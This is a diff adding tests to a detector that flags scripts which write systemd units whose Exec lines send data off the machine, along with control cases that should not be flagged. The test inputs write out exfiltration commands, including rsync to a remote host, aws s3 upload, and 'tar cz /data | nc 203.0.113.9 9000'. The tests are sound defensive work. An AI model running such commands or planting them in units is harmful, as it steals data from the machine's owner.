@@ -214,3 +214,41 @@ describe("a trap's command", () => {
     },
   );
 });
+
+// Found by the scripts bench: a systemd unit a script wrote, whose ExecStart uploads, passed.
+// A unit's Exec lines are read as commands the machine runs.
+describe("the systemd units a script writes", () => {
+  it.each([
+    [
+      "cat <<EOF > /etc/systemd/system/ship.service\n[Service]\nExecStartPre=-/usr/bin/rsync -a /data h.example.de:/x\nEOF",
+      "rsync → host h.example.de",
+    ],
+    [
+      "printf '[Service]\\nExecStart=/usr/bin/aws s3 cp /data s3://offsite/\\n' > /etc/systemd/system/ship.service",
+      "aws s3 → s3 bucket offsite",
+    ],
+    [
+      "sudo tee /etc/systemd/system/ship.service <<EOF\n[Service]\nExecStop=/bin/sh -c 'tar cz /data | nc 203.0.113.9 9000'\nEOF",
+      "nc → host 203.0.113.9",
+    ],
+  ])("%s sends", (script, expected) => {
+    expect(sends(script)).toEqual([expected]);
+  });
+
+  it.each([
+    // A unit's other settings run nothing; an empty ExecStart= resets the list.
+    "cat <<EOF > /etc/systemd/system/x.service\n[Unit]\nDescription=rsync -a /data h.example.de:/x\n[Service]\nExecStart=\nEOF",
+    "cat <<EOF > /etc/systemd/system/x.service\n[Service]\nExecStart=/usr/bin/rsync -a h.example.de:/x /data\nEOF",
+  ])("twin: %s sends nothing", (script) => {
+    expect(sends(script)).toEqual([]);
+  });
+
+  it("reads a unit's Exec lines, a line continued by a backslash as one, without their prefixes", () => {
+    expect(
+      fileCommands(
+        "/etc/systemd/system/ship.service",
+        "[Service]\nExecStart=/usr/bin/rsync \\\n  -a /d h.example.de:/x\nExecStartPost=+/bin/true\n",
+      ),
+    ).toEqual(["/usr/bin/rsync    -a /d h.example.de:/x", "/bin/true"]);
+  });
+});
